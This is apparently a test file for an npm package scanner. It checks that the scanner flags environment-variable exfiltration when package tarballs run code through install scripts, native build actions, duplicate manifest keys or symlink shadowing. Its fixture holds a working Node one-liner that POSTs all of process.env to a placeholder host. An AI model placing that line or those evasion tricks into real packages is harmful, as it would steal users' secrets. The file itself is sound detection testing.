import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import { reader, tgz } from '../archive/read-bytes.ts'
import type { TarSpec } from '../registry/tar-bytes.ts'

const SENDS = `require('https').request({ host: 'c.invalid', method: 'POST' }).end(JSON.stringify(process.env))\n`
const BUILD = `{ "targets": [{ "target_name": "a", "actions": [{ "action_name": "b", "action": ["node", "build.js"] }] }] }`

const file = (path: string, content: string): TarSpec => ({ path: `package/${path}`, content })
const link = (path: string, target: string): TarSpec => ({ path: `package/${path}`, flag: '2', link: target })
const manifest = (more: object): TarSpec =>
  file('package.json', JSON.stringify({ name: 'sample', version: '1.0.0', ...more }))
const builds = (more: object, build: string): TarSpec[] => [
  manifest(more),
  file('binding.gyp', BUILD),
  file('a.cc', ''),
  file('build.js', build),
]
const doubled = (member: string): TarSpec[] => [
  file('package.json', `{ "name": "sample", "version": "1.0.0", ${member} }`),
  file('a.js', SENDS),
  file('b.js', ''),
]

/** Packages that do harm for one client and none for another, and when; undefined: nobody runs anything. */
const TABLE: readonly (readonly [situation: string, members: readonly TarSpec[], moment: string | undefined])[] = [
  ['a build, and a script at install that is an empty text', builds({ scripts: { install: '' } }, SENDS), 'install'],
  ['a build, and an empty script before it', builds({ scripts: { preinstall: '' } }, SENDS), 'install'],
  ['a build that only the own manifest turns off', builds({ gypfile: false }, SENDS), 'install'],
  [
    'a build in whose place only the own manifest has a script',
    builds({ scripts: { install: 'echo' } }, SENDS),
    'install',
  ],
  ['a harmless build that the manifest turns off', builds({ gypfile: false }, ''), undefined],
  [
    'a main module that is a link, and an index',
    [manifest({ main: 'main.js' }), file('a.js', ''), link('main.js', 'a.js'), file('index.js', SENDS)],
    'import',
  ],
  [
    'a main module that is a file, and an index',
    [manifest({ main: 'main.js' }), file('main.js', ''), file('index.js', SENDS)],
    'call',
  ],
  [
    'a script at install that starts a link, and a folder of that name',
    [
      manifest({ scripts: { postinstall: 'node setup' } }),
      file('a.js', ''),
      link('setup.js', 'a.js'),
      file('setup/index.js', SENDS),
    ],
    'install',
  ],
  [
    'a module that loads a link, and a folder of that name',
    [
      manifest({}),
      file('index.js', `require('./x')`),
      file('a.js', ''),
      link('x.js', 'a.js'),
      file('x/index.js', SENDS),
    ],
    'import',
  ],
  ['main twice', doubled('"main": "a.js", "main": "b.js"'), 'import'],
  ['main twice, the other way round', doubled('"main": "b.js", "main": "a.js"'), 'import'],
  ['exports twice', doubled('"exports": "./a.js", "exports": "./b.js"'), 'import'],
  ['one main and one entry of exports', doubled('"main": "b.js", "exports": "./b.js"'), 'call'],
]

t.test('what one client runs and another does not is judged as run', async (t) => {
  const read = reader(t)
  for (const [situation, members, moment] of TABLE) {
    const reading = await read(tgz(members), 'npm-tarball')
    const { findings } = await inspect(reading, { digest: sha256('x'), readAs: 'npm-tarball' })
    const found = findings.filter(({ check }) => check === 'secrets-exfiltration').map((finding) => finding.moment)
    t.same(found, moment === undefined ? [] : [moment], situation)
  }
})
